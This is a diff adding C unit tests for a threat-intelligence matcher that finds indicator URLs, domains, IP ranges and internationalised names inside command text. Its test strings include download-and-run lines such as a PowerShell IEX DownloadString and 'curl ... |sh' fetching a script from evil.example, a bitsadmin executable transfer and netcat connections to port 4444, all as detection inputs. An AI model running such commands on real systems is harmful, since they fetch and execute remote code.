@@ -333,6 +333,135 @@ static void nothing_hides_behind_length(void) {
         check_int(found(INTEL_FIELD_URL, "http://bad.example@good.example/"), 0);
 }
 
+/* Commands and scripts: what stands in them, between whatever. */
+static void texts_are_walked_through(void) {
+        static const struct {
+                const char *text;
+                unsigned n;
+        } cases[] = {
+                {"powershell -c \"IEX (New-Object "
+                 "Net.WebClient).DownloadString('http://evil.example"
+                 "/a.ps1')\"",
+                 1}, /* the URL */
+                {"curl -s HTTP://Evil.Example:80/a.ps1|sh", 1},
+                {"curl http://evil.example/a.ps1; true", 1},
+                {"see http://evil.example/a.ps1.", 1},
+                {"see http://evil.example/b.ps1.", 0},
+                {"wget https://user:pw@x.tree.example/q?a=b&c=d", 1}, /* the name */
+                {"nslookup q1.tree.example 10.0.0.1", 1},
+                {"ping -n 1 198.51.100.7", 1},
+                {"ping -n 1 198.51.100.70", 0},
+                {"net use z: \\\\198.51.100.7\\share", 1},
+                {"net use z: \\\\bad.example@8080\\davwww", 1},
+                {"ssh root@bad.example -p 22", 1},
+                {"bitsadmin /transfer n bad.example:8080/x c:\\x.exe", 1},
+                {"set a=bad.example&&echo", 1},
+                {"echo bad.example.", 1},
+                {"echo notbad.example bad.example.com bad-example", 0},
+                {"nc 2001:db8::5 4444; nc [2001:db8::5]:99", 1},
+                {"nc 2001:db8::6", 0},
+                {"curl http://[2001:db8::5]:8080/x?u=http://evil.example/a.ps1", 2},
+                {"connect 198.51.100.7:443,bad.example q.tree.example", 3},
+                {"C:\\Windows\\System32\\cmd.exe /c dir a.txt", 0},
+                {"http://", 0},
+                {"://evil.example/a.ps1", 1},
+                {"", 0},
+        };
+
+        begin(TIME_NONE);
+        take("a.txt", "http://evil.example/a.ps1\n*.tree.example\nbad.example\n198.51.100.7\n"
+                      "2001:db8::5\n");
+        finish();
+        for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+                unsigned n = found(INTEL_FIELD_TEXT, cases[i].text);
+                if (n != cases[i].n)
+                        printf("# %s\n", cases[i].text);
+                check_int(n, cases[i].n);
+        }
+        check_span(span_str(text_of(INTEL_FIELD_TEXT, "curl http://evil.example/a.ps1;")),
+                   "evil.example/a.ps1");
+        /* Padding hides nothing that a command line has room for. */
+        struct buf b = {0};
+        for (unsigned i = 0; i < 4000; i++)
+                buf_str(&b, "a.b c.d ");
+        buf_str(&b, "bad.example");
+        buf_char(&b, 0);
+        check_int(found(INTEL_FIELD_TEXT, b.p), 1);
+        buf_deinit(&b);
+}
+
+/* Names that are not ASCII are what they are on the wire, however either side writes them. */
+static void names_of_all_scripts(void) {
+        static const char *const same[] = {
+                "t\u00ean-mi\u1ec1n-\u0111\u1ed9c.example", /* composed */
+                "T\u00caN-MI\u1ec0N-\u0110\u1ed8C.example",
+                "te\u0302n-mie\u0302\u0300n-\u0111o\u0323\u0302c.example", /* decomposed */
+                "xn--tn-min-c-86aw80pxl1a5e9b.example",
+        };
+        char wire[300];
+
+        begin(TIME_NONE);
+        take("a.csv", "type,value\ndomain,t\u00ean-mi\u1ec1n-\u0111\u1ed9c.example\n"
+                      "url,http://b\u00fccher.example/\u00e4\n");
+        finish();
+        snprintf(wire, sizeof(wire), "%s", text_of(INTEL_FIELD_HOST, same[0]));
+        check(strncmp(wire, "xn--", 4) == 0);
+        for (size_t i = 0; i < 3; i++)
+                check_int(found(INTEL_FIELD_HOST, same[i]), 1);
+        check_int(found(INTEL_FIELD_HOST, wire), 1);
+        check_int(found(INTEL_FIELD_HOST, "ten-mien-doc.example"), 0);
+        check_int(found(INTEL_FIELD_URL, "https://xn--bcher-kva.example/\u00e4"), 1);
+        check_int(found(INTEL_FIELD_URL, "https://B\u00dcCHER.example/\u00e4"), 1);
+        check_int(found(INTEL_FIELD_TEXT, "curl 'http://b\u00fccher.example/\u00e4'"), 1);
+        /* No UTF-8, or no name for IDNA: as it comes. */
+        begin(TIME_NONE);
+        take("a.csv", "type,value\ndomain,a\u200b.example\n");
+        check_int(set.counts.kept, 1);
+        finish();
+        check_int(found(INTEL_FIELD_HOST, "\xff\xfe.example"), 0);
+        /* The same name told in two forms is one; a warning list has it in either. */
+        begin(TIME_NONE);
+        take("a.txt", "b\u00fccher.example\nxn--bcher-kva.example\n");
+        finish();
+        check_int(table.n, 1);
+        begin(TIME_NONE);
+        intel_read_warnings(&set, SPAN("w.json"),
+                            SPAN("{\"name\":\"w\",\"type\":\"hostname\","
+                                 "\"list\":[\"b\u00fccher.example\"]}"));
+        take("a.txt", "xn--bcher-kva.example\nwww.b\u00fccher.example\n");
+        check_int(set.counts.warned, 2);
+}
+
+/* The first bits decide whether a value is looked up at all: never wrongly. */
+static void leads_leave_nothing_out(void) {
+        char text[64];
+
+        begin(TIME_NONE);
+        take("a.txt", "10.0.0.0/9\n172.16.5.0/24\n192.168.0.0/16\n2001:db8::/20\n2a00:1:2::/48\n");
+        finish();
+        for (unsigned i = 0; i < 128; i++) {
+                snprintf(text, sizeof(text), "10.%u.3.4", i);
+                check_int(found(INTEL_FIELD_HOST, text), 1);
+                snprintf(text, sizeof(text), "10.%u.3.4", i + 128);
+                check_int(found(INTEL_FIELD_HOST, text), 0);
+        }
+        check_int(found(INTEL_FIELD_HOST, "172.16.5.9"), 1);
+        check_int(found(INTEL_FIELD_HOST, "172.16.6.9"), 0);
+        check_int(found(INTEL_FIELD_HOST, "192.168.255.9"), 1);
+        check_int(found(INTEL_FIELD_HOST, "2001:fff::1"), 1);
+        check_int(found(INTEL_FIELD_HOST, "2001:1000::1"), 0);
+        check_int(found(INTEL_FIELD_HOST, "2a00:1:2:3::1"), 1);
+        check_int(found(INTEL_FIELD_HOST, "2a00:1:3::1"), 0);
+        /* A URL by an address. */
+        begin(TIME_NONE);
+        take("a.txt", "http://203.0.113.5/x\nhttp://[2001:db8::5]:8080/y\n");
+        finish();
+        check_int(found(INTEL_FIELD_URL, "http://203.0.113.5/x"), 1);
+        check_int(found(INTEL_FIELD_URL, "http://203.0.113.6/x"), 0);
+        check_int(found(INTEL_FIELD_URL, "http://[2001:DB8::5]:8080/y"), 1);
+        check_int(found(INTEL_FIELD_PATH, "203.0.113.5/x"), 1);
+}
+
 static void no_byte_of_a_table_can_hurt(void) {
         begin(TIME_NONE);
         take("a.txt", "198.51.100.7 \nevil.example\nhttp://a.example/x\n"
@@ -370,6 +499,9 @@ int main(void) {
         RUN(alike_are_one);
         RUN(a_large_table_is_exact);
         RUN(nothing_hides_behind_length);
+        RUN(texts_are_walked_through);
+        RUN(names_of_all_scripts);
+        RUN(leads_leave_nothing_out);
         RUN(no_byte_of_a_table_can_hurt);
         intel_set_deinit(&set);
         buf_deinit(&bytes);
